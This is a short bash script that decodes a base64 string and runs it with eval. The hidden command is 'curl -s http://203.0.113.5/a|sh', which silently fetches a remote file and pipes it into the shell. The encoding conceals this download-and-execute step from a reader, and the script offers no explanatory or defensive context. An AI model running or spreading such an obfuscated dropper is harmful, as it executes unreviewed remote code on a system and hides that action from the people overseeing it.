#!/bin/bash
# encoded command
a="Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjUvYXxzaA=="
eval "$(echo $a | base64 -d)"
